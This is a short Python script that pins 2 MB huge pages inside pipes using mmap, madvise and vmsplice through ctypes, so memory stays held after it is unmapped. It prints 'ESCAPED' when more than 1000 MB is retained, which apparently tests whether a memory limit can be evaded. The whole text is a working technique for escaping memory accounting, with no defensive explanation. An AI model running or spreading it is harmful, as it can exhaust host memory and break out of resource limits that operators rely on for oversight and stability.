"""Lets pipes hold pages of 2 MB by 4 KB each, and gives the memory back: no process holds it then."""

import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)


class Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


held = 0
for _ in range(100):
    end = os.pipe()[1]
    os.set_blocking(end, False)
    area = libc.mmap(None, 34 << 20, 3, 0x22, -1, 0)
    start = area + -area % (2 << 20)
    libc.madvise(start, 32 << 20, 14)
    for number in range(16):
        ctypes.memset(start + (number << 21), 1, 4096)
        piece = Piece(start + (number << 21), 4096)
        held += 2 * (libc.vmsplice(end, ctypes.byref(piece), ctypes.c_ulong(1), 2) == 4096)
    libc.munmap(area, 34 << 20)
print("tried", held, flush=True)
time.sleep(1)
if held > 1000:
    print("ESCAPED: holds", held, "MB in pipes")
